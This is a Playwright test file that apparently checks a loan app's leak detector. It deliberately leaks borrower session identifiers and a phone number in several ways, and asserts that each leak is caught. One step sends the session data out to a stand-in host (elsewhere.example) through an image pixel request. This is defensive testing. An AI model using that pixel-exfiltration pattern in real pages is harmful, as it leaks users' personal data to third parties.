import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { root } from '../../scripts/build/root.ts';
import { borrowers } from '../support/borrowers.ts';
import { expect, test } from './fixture.ts';

const borrower = borrowers.instalments;
const { userId, deviceId = '', sessionId = '', mobilePhone = '' } = borrower;
// Long enough to be told from anything else, where they come out.
const headers = {
  building: 'building-of-journeys',
  gather: 'gather-of-journeys',
  swift: 'swift-of-journeys',
  eyes: 'eyes-of-journeys',
};
const ELSEWHERE = 'https://elsewhere.example';

/** Answers another origin's addresses, and waits for what the page asks of it. */
const asking = async (page: Page, ask: () => Promise<unknown>): Promise<void> => {
  await page.route(`${ELSEWHERE}/**`, (route) => route.fulfill({ status: 204 }));
  const asked = page.waitForRequest(`${ELSEWHERE}/**`);
  await ask();
  await asked;
};

/** Ways to betray a borrower, each with what the watch of every journey has to say of it. */
const betrayals: readonly (readonly [how: string, betray: (page: Page) => Promise<unknown>, leaks: string[]])[] = [
  [
    'a request to another origin',
    (page) =>
      asking(page, () =>
        page.evaluate((to) => {
          new Image().src = `${to}/pixel?${new URLSearchParams(history.state.session)}`;
        }, ELSEWHERE),
      ),
    ['deviceId', 'userId', 'sessionId', 'mobilePhone', ...Object.keys(headers)].map(
      (name) => `${name} in a request to ${ELSEWHERE}/pixel`,
    ),
  ],
  [
    'a picture of this site',
    (page) =>
      page.evaluate(async (phone) => {
        const image = new Image();
        image.src = `/sandbox/images/qr.svg?of=${phone}`;
        await image.decode();
      }, mobilePhone),
    ['mobilePhone in a request to {origin}/sandbox/images/qr.svg'],
  ],
  [
    'the body of a request that is no call',
    (page) => page.evaluate((id) => fetch('/texts/none', { method: 'POST', body: `|${id}|` }), userId),
    ['userId in a request to {origin}/texts/none'],
  ],
  [
    'the title',
    (page) =>
      page.evaluate((id) => {
        document.title = `Order of ${id}`;
      }, userId),
    ['userId in a title'],
  ],
  [
    'the address',
    (page) => page.evaluate((id) => history.replaceState(history.state, '', `?userId=${id}&source=x#${id}`), userId),
    ['userId in the address', 'source in the address'],
  ],
  ['the console', (page) => page.evaluate((id) => console.info({ id }, id), sessionId), ['sessionId in the console']],
  [
    'the storage of the phone',
    (page) => page.evaluate((id) => localStorage.setItem('last', id), deviceId),
    ['deviceId in the store last'],
  ],
  [
    'a record that another borrower must not see',
    (page) => page.evaluate((phone) => sessionStorage.setItem('loan:default:complaintDraft', phone), mobilePhone),
    ['mobilePhone in the store loan:default:complaintDraft'],
  ],
  [
    'the log of the service',
    async () => console.error(`A sample of a log that says too much: ${sessionId}`),
    ['sessionId in the log'],
  ],
];

test.describe('Every journey is watched, and sees it where the session comes out in', { tag: '@matrix' }, () => {
  test('any of the ways in which a page or the service could let it out', async ({
    page,
    app,
    open,
    leaks,
    expectProblem,
  }) => {
    expectProblem('foreign request');
    expectProblem('404');
    await open('repay', borrower, headers);
    await expect(page.getByRole('button', { name: 'Payment Method' })).toBeVisible();
    const lines: string[] = [];
    const found = async (): Promise<readonly string[]> => [...(await leaks.find())].sort();
    expect(await found()).toEqual([]);
    for (const [how, betray, more] of betrayals)
      await test.step(how, async () => {
        lines.push(...more.map((leak) => leak.replace('{origin}', app.origin)));
        await betray(page);
        await expect.poll(found).toEqual([...lines].sort());
      });
    for (const line of lines) leaks.expect(line);
  });

  test('a referrer', async ({ page, app, open, leaks, expectProblem }) => {
    expectProblem('foreign request');
    await open('repay', borrower, headers);
    await expect(page.getByRole('button', { name: 'Payment Method' })).toBeVisible();
    await page.evaluate((id) => {
      history.replaceState(history.state, '', `?sessionId=${id}`);
      return fetch('/texts/none', { referrerPolicy: 'unsafe-url' });
    }, sessionId);
    expectProblem('404');
    expect(await leaks.find()).toContain('sessionId in a referrer');
    expect(await leaks.find()).toContain(`sessionId in a request to ${app.origin}/texts/none`);
    leaks.expect('');
  });
});

const folders = readdirSync(join(root, 'pages')).filter((folder) => !/notFound|Preview$/.test(folder));

for (const [what, screens] of [
  ['Every page', ['', ...folders.filter((folder) => folder !== 'home'), 'order']],
  ['The page of an address that is none', ['nothing-here']],
] as const)
  test(`${what} stands with its heading and a title, sends no referrer, and lets no parameter that travels as a header out`, async ({
    page,
    open,
    leaks,
    expectProblem,
  }) => {
    test.slow();
    if (screens.includes('nothing-here')) expectProblem('404');
    const referrers: (string | undefined)[] = [];
    page.on('request', (request) => referrers.push(request.headers()['referer']));
    for (const screen of screens) {
      await open(screen, borrower, headers);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await expect(page).toHaveTitle(/\S/);
      await expect(page.locator('[aria-busy=true]')).toHaveCount(0);
      // What a document keeps is looked at before the next one takes its place.
      expect([screen, referrers.filter(Boolean), await leaks.find()]).toEqual([screen, [], []]);
    }
  });
